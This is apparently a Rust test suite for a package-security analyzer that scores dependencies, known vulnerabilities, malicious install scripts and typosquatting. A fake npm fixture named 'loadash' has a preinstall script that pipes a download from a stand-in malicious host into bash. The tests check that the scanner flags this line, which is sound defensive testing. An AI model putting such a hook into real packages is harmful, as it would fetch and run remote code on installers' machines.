use package_security::package::AttributeValue;
use package_security::quality::{documentation_score, evaluate_quality, maintenance_score};
use package_security::{
    analyze, analyze_package, conclude, Advisory, AnalysisError, AnalysisOptions, AnalysisResult,
    CatalogEntry, DependencyCatalog, DependencyKind, DependencyRef, FeedAnswer, FeedRecord,
    IngestionFailure, NpmPackage, PackageInfo, PackageMetadata, PythonPackage, QualityMetrics,
    Resolution, RiskLevel, Score, Script, Version, VersionRange, VulnerabilityFeed,
};

fn metadata(name: &str) -> PackageMetadata {
    PackageMetadata {
        name: name.to_string(),
        version: "1.0.0".to_string(),
        description: None,
        author: None,
        license: None,
        homepage: None,
        repository: None,
        keywords: Vec::new(),
        publish_date: None,
    }
}

fn dep(name: &str, major: u64) -> DependencyRef {
    DependencyRef::new(
        name.to_string(),
        VersionRange::exactly(Version::new(major, 0, 0)),
        DependencyKind::Runtime,
    )
}

fn hostile(name: &str) -> PackageInfo {
    PackageInfo::Npm(NpmPackage {
        metadata: metadata(name),
        scripts: vec![Script {
            name: "preinstall".to_string(),
            body: "curl -s http://malicious.com/script.sh | bash".to_string(),
        }],
        dependencies: vec![dep("lodash", 4), dep("left-pad", 1)],
    })
}

fn feed() -> VulnerabilityFeed {
    let advisory = Advisory::new(
        "CVE-2021-23337".to_string(),
        String::new(),
        "Command injection in lodash".to_string(),
        Some(Score::new(72).unwrap()),
        VersionRange::before(Version::new(4, 17, 21)),
    )
    .unwrap();
    VulnerabilityFeed {
        records: vec![
            FeedRecord { package: "lodash".to_string(), answer: FeedAnswer::Known(vec![advisory]) },
            FeedRecord { package: "left-pad".to_string(), answer: FeedAnswer::Unavailable },
        ],
    }
}

fn corpus() -> Vec<String> {
    vec!["lodash".to_string(), "express".to_string()]
}

fn catalog() -> DependencyCatalog {
    DependencyCatalog {
        entries: vec![CatalogEntry {
            name: "lodash".to_string(),
            resolution: Resolution::Resolved(vec![dep("deep", 1)]),
        }],
    }
}

fn run(package: PackageInfo, options: &AnalysisOptions) -> AnalysisResult {
    analyze_package(package, options, &feed(), &corpus(), &catalog())
}

fn summary(result: &AnalysisResult) -> String {
    format!(
        "{:?}|{:?}|{:?}|{:?}|{:?}|{:?}|{:?}|{:?}",
        result.package_info(),
        result.risk_assessment(),
        result.dependency_analysis(),
        result.vulnerabilities(),
        result.malicious_patterns(),
        result.typosquatting_risk(),
        result.quality_metrics(),
        result.unchecked_dependencies()
    )
}

#[test]
fn the_standard_options() {
    let options = AnalysisOptions::default();
    assert!(options.analyze_dependencies);
    assert!(options.check_vulnerabilities);
    assert!(options.scan_malicious_patterns);
    assert!(options.detect_typosquatting);
    assert_eq!(options.max_dependency_depth, 5);
    assert_eq!(options.timeout_seconds, 300);
}

#[test]
fn the_unknown_quality() {
    let quality = QualityMetrics::default();
    assert_eq!(quality.documentation_score().value(), 50);
    assert!(!quality.has_tests());
    assert!(!quality.has_ci_cd());
    assert_eq!(quality.maintenance_score().value(), 50);
}

#[test]
fn everything_on_finds_everything() {
    let result = run(hostile("loadash"), &AnalysisOptions::default());
    assert_eq!(result.package_info().name(), "loadash");
    assert_eq!(result.dependency_analysis().dependencies.len(), 3);
    assert_eq!(result.dependency_analysis().depth, 2);
    assert_eq!(result.dependency_analysis().breadth, 3);
    assert_eq!(result.vulnerabilities().len(), 1);
    assert_eq!(result.unchecked_dependencies(), &["left-pad".to_string()]);
    assert_eq!(result.malicious_patterns().len(), 1);
    assert_eq!(result.malicious_indicators().len(), 1);
    assert!(result.typosquatting_risk().unwrap().is_potential_typosquatting());
    let assessment = result.risk_assessment();
    assert_eq!(assessment.risk_score.component("supply_chain").unwrap().value(), 20);
    assert_eq!(assessment.risk_score.component("vulnerability").unwrap().value(), 72);
    assert_eq!(assessment.risk_score.component("malicious_code").unwrap().value(), 100);
    assert_eq!(assessment.risk_score.component("typosquatting").unwrap().value(), 85);
    // (15 * 20 + 35 * 72 + 35 * 100 + 15 * 85) / 100 = 7595 / 100
    assert_eq!(assessment.overall_score.value(), 75);
    assert!(assessment.escalated);
    assert_eq!(result.overall_risk_level(), RiskLevel::High);
    assert_eq!(result.supply_chain_risk_score().value(), 20);
}

#[test]
fn a_piped_download_is_found_and_rated_high() {
    let options = AnalysisOptions {
        analyze_dependencies: false,
        check_vulnerabilities: false,
        detect_typosquatting: false,
        ..AnalysisOptions::default()
    };
    let result = run(hostile("quiet-name"), &options);
    assert!(!result.malicious_patterns().is_empty());
    assert_eq!(result.malicious_patterns()[0].pattern_name, "remote-code-exec");
    assert!(result.overall_risk_level() >= RiskLevel::High);
    assert_eq!(result.risk_assessment().overall_score.value(), 35);
}

#[test]
fn without_the_scan_no_pattern_is_reported() {
    let options = AnalysisOptions { scan_malicious_patterns: false, ..AnalysisOptions::default() };
    let result = run(hostile("loadash"), &options);
    assert!(result.malicious_patterns().is_empty());
    assert_eq!(result.risk_assessment().risk_score.component("malicious_code").unwrap().value(), 0);
    assert_eq!(result.vulnerabilities().len(), 1);
    assert!(result.typosquatting_risk().is_some());
}

#[test]
fn without_the_feed_check_no_vulnerability_is_reported() {
    let options = AnalysisOptions { check_vulnerabilities: false, ..AnalysisOptions::default() };
    let result = run(hostile("loadash"), &options);
    assert!(result.vulnerabilities().is_empty());
    assert!(result.unchecked_dependencies().is_empty());
    assert_eq!(result.dependency_analysis().dependencies.len(), 3);
    assert_eq!(result.malicious_patterns().len(), 1);
}

#[test]
fn without_the_walk_neither_dependencies_nor_vulnerabilities_are_reported() {
    let options = AnalysisOptions { analyze_dependencies: false, ..AnalysisOptions::default() };
    let result = run(hostile("loadash"), &options);
    assert!(result.dependency_analysis().dependencies.is_empty());
    assert_eq!(result.dependency_analysis().depth, 0);
    assert_eq!(result.dependency_analysis().breadth, 0);
    assert!(result.vulnerabilities().is_empty());
    assert_eq!(result.supply_chain_risk_score().value(), 0);
}

#[test]
fn without_the_name_check_no_verdict_is_given() {
    let options = AnalysisOptions { detect_typosquatting: false, ..AnalysisOptions::default() };
    let result = run(hostile("loadash"), &options);
    assert!(result.typosquatting_risk().is_none());
    assert_eq!(result.risk_assessment().risk_score.component("typosquatting").unwrap().value(), 0);
}

#[test]
fn a_depth_of_zero_reads_the_metadata_only() {
    let options = AnalysisOptions { max_dependency_depth: 0, ..AnalysisOptions::default() };
    let result = run(hostile("loadash"), &options);
    assert!(result.dependency_analysis().dependencies.is_empty());
    assert!(result.vulnerabilities().is_empty());
    assert_eq!(result.malicious_patterns().len(), 1);
}

#[test]
fn the_depth_bounds_the_walk() {
    let options = AnalysisOptions { max_dependency_depth: 1, ..AnalysisOptions::default() };
    let result = run(hostile("loadash"), &options);
    assert_eq!(result.dependency_analysis().dependencies.len(), 2);
    assert_eq!(result.dependency_analysis().depth, 1);
}

#[test]
fn everything_off_still_gives_a_whole_result() {
    let options = AnalysisOptions {
        analyze_dependencies: false,
        check_vulnerabilities: false,
        scan_malicious_patterns: false,
        detect_typosquatting: false,
        max_dependency_depth: 0,
        timeout_seconds: 1,
    };
    let result = analyze(Ok(hostile("loadash")), &options, &feed(), &corpus(), &catalog()).unwrap();
    assert_eq!(result.overall_risk_level(), RiskLevel::Safe);
    assert_eq!(result.risk_assessment().overall_score.value(), 0);
    assert_eq!(result.risk_assessment().risk_score.component_names().len(), 4);
    assert!(result.vulnerabilities().is_empty());
    assert!(result.malicious_patterns().is_empty());
    assert!(result.typosquatting_risk().is_none());
    assert_eq!(result.quality_metrics().documentation_score().value(), 0);
    assert_eq!(result.quality_metrics().maintenance_score().value(), 50);
}

#[test]
fn the_same_analysis_twice_gives_the_same_result() {
    let options = AnalysisOptions::default();
    let first = run(hostile("loadash"), &options);
    let second = run(hostile("loadash"), &options);
    assert_eq!(summary(&first), summary(&second));
    let other = run(hostile("lodash"), &options);
    assert_ne!(summary(&first), summary(&other));
}

#[test]
fn each_ingestion_failure_has_its_error() {
    let options = AnalysisOptions::default();
    let cases = [
        (IngestionFailure::PathMissing, AnalysisError::PathNotFound),
        (IngestionFailure::NoManifest, AnalysisError::ManifestNotFound),
        (IngestionFailure::Malformed, AnalysisError::ManifestInvalid),
    ];
    for (failure, error) in cases {
        let outcome = analyze(Err(failure), &options, &feed(), &corpus(), &catalog());
        assert_eq!(outcome.err(), Some(error));
    }
}

#[test]
fn a_description_without_a_name_is_refused() {
    let options = AnalysisOptions::default();
    let outcome = analyze(Ok(hostile("")), &options, &feed(), &corpus(), &catalog());
    assert_eq!(outcome.err(), Some(AnalysisError::ManifestInvalid));
}

#[test]
fn every_error_names_its_cause() {
    assert_eq!(AnalysisError::PathNotFound.message(), "the package path does not exist");
    assert_eq!(AnalysisError::ManifestNotFound.message(), "no package manifest was found");
    assert_eq!(
        AnalysisError::ManifestInvalid.message(),
        "the package manifest is not well-formed"
    );
    assert_eq!(AnalysisError::Timeout.message(), "the analysis ran out of time");
}

#[test]
fn an_analysis_within_its_budget_keeps_its_result() {
    let options = AnalysisOptions::default();
    let outcome = Ok(run(hostile("loadash"), &options));
    let kept = conclude(outcome, 299, &options).unwrap();
    assert_eq!(kept.package_info().name(), "loadash");
    assert_eq!(kept.overall_risk_level(), RiskLevel::High);
}

#[test]
fn an_analysis_out_of_time_gives_no_result() {
    let options = AnalysisOptions::default();
    let at = conclude(Ok(run(hostile("loadash"), &options)), 300, &options);
    assert_eq!(at.err(), Some(AnalysisError::Timeout));
    let over = conclude(Ok(run(hostile("loadash"), &options)), u64::MAX, &options);
    assert_eq!(over.err(), Some(AnalysisError::Timeout));
    let none = AnalysisOptions { timeout_seconds: 0, ..options };
    let zero = conclude(Ok(run(hostile("loadash"), &none)), 0, &none);
    assert_eq!(zero.err(), Some(AnalysisError::Timeout));
}

#[test]
fn an_error_stays_the_error_it_is() {
    let options = AnalysisOptions::default();
    let late = conclude(Err(AnalysisError::ManifestInvalid), 1000, &options);
    assert_eq!(late.err(), Some(AnalysisError::ManifestInvalid));
    let early = conclude(Err(AnalysisError::PathNotFound), 0, &options);
    assert_eq!(early.err(), Some(AnalysisError::PathNotFound));
}

#[test]
fn quality_is_read_off_the_manifest() {
    let mut meta = metadata("p");
    assert_eq!(documentation_score(&meta).value(), 0);
    assert_eq!(maintenance_score(&meta).value(), 50);
    meta.description = Some("text".to_string());
    meta.license = Some(String::new());
    assert_eq!(documentation_score(&meta).value(), 20);
    meta.license = Some("MIT".to_string());
    meta.keywords = vec!["k".to_string()];
    assert_eq!(documentation_score(&meta).value(), 60);
    meta.repository = Some("https://example.com/p.git".to_string());
    assert_eq!(documentation_score(&meta).value(), 80);
    assert_eq!(maintenance_score(&meta).value(), 75);
    meta.publish_date = Some("2024-01-01".to_string());
    meta.homepage = Some("https://example.com".to_string());
    assert_eq!(documentation_score(&meta).value(), 100);
    assert_eq!(maintenance_score(&meta).value(), 100);
    meta.author = Some("someone".to_string());
    assert_eq!(documentation_score(&meta).value(), 100);

    let copy = meta.clone();
    assert_eq!(copy.name, "p");
    assert_eq!(copy.keywords, vec!["k".to_string()]);
    assert_eq!(copy.publish_date, Some("2024-01-01".to_string()));
}

#[test]
fn tests_and_integration_are_read_off_the_scripts() {
    let script = |name: &str| Script { name: name.to_string(), body: "x".to_string() };
    let package = |scripts: Vec<Script>| {
        PackageInfo::Npm(NpmPackage { metadata: metadata("p"), scripts, dependencies: Vec::new() })
    };
    let none = evaluate_quality(&package(vec![script("start"), script("tests")]));
    assert!(!none.has_tests());
    assert!(!none.has_ci_cd());
    let both = evaluate_quality(&package(vec![script("ci"), script("test")]));
    assert!(both.has_tests());
    assert!(both.has_ci_cd());
    let python = evaluate_quality(&PackageInfo::Python(PythonPackage {
        metadata: metadata("p"),
        setup_script: Some("test ci".to_string()),
        dependencies: Vec::new(),
    }));
    assert!(!python.has_tests());
    assert!(!python.has_ci_cd());
}

#[test]
fn the_attributes_of_an_npm_package() {
    let package = hostile("p");
    assert_eq!(package.package_type(), "npm");
    assert_eq!(package.dependencies().len(), 2);
    let attributes = package.custom_attributes();
    assert_eq!(attributes.len(), 2);
    assert_eq!(attributes[0].name, "scripts");
    match &attributes[0].value {
        AttributeValue::Table(entries) => {
            assert_eq!(entries.len(), 1);
            assert_eq!(entries[0].0, "preinstall");
            assert_eq!(entries[0].1, "curl -s http://malicious.com/script.sh | bash");
        }
        other => panic!("scripts should be a table, not {:?}", other),
    }
    assert_eq!(attributes[1].name, "dependencies");
    match &attributes[1].value {
        AttributeValue::List(names) => assert_eq!(names, &vec!["lodash", "left-pad"]),
        other => panic!("dependencies should be a list, not {:?}", other),
    }
}

#[test]
fn the_attributes_of_a_python_package() {
    let package = PackageInfo::Python(PythonPackage {
        metadata: metadata("p"),
        setup_script: Some("from setuptools import setup".to_string()),
        dependencies: vec![dep("django", 1)],
    });
    assert_eq!(package.package_type(), "python");
    assert_eq!(package.metadata().version, "1.0.0");
    let attributes = package.custom_attributes();
    assert_eq!(attributes.len(), 2);
    assert_eq!(attributes[0].name, "setup_script");
    match &attributes[0].value {
        AttributeValue::Text(text) => assert_eq!(text, "from setuptools import setup"),
        other => panic!("the setup script should be a text, not {:?}", other),
    }
    assert_eq!(attributes[1].name, "install_requires");

    let bare = PackageInfo::Python(PythonPackage {
        metadata: metadata("p"),
        setup_script: None,
        dependencies: Vec::new(),
    });
    let attributes = bare.custom_attributes();
    assert_eq!(attributes.len(), 1);
    assert_eq!(attributes[0].name, "install_requires");
}

#[test]
fn every_score_of_a_result_is_on_its_scale() {
    for name in ["loadash", "lodash", "quiet-name"] {
        let result = run(hostile(name), &AnalysisOptions::default());
        let score = &result.risk_assessment().risk_score;
        for component in score.component_names() {
            assert!(score.component(&component).unwrap().value() <= 100);
        }
        assert!(result.risk_assessment().overall_score.value() <= 100);
        assert!(result.quality_metrics().documentation_score().value() <= 100);
        assert!(result.quality_metrics().maintenance_score().value() <= 100);
        for vulnerability in result.vulnerabilities() {
            assert!(vulnerability.severity_score().value() <= 100);
            assert!(!vulnerability.cve_id().is_empty() || !vulnerability.advisory_id().is_empty());
            assert!(!vulnerability.description().is_empty());
        }
        if let Some(verdict) = result.typosquatting_risk() {
            assert!(verdict.confidence_score().value() <= 100);
            assert!(!verdict.similar_packages().contains(&name.to_string()));
            assert_eq!(
                verdict.is_potential_typosquatting(),
                !verdict.similar_packages().is_empty()
            );
        }
    }
}
